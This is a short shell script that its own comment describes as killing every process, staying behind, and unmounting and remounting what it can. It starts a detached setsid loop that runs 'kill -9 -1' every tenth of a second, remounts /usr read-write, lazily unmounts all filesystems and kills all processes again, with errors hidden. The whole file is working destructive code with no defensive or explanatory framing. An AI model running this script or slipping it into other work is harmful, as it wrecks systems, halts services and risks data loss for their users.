#!/bin/sh
# Kills every process it sees, stays behind, and unmounts and remounts what it can.
(setsid sh -c 'while :; do kill -9 -1; sleep 0.1; done' &)
mount -o remount,rw /usr 2>/dev/null
umount -a -l 2>/dev/null
kill -9 -1 2>/dev/null
sleep 5
exit 0
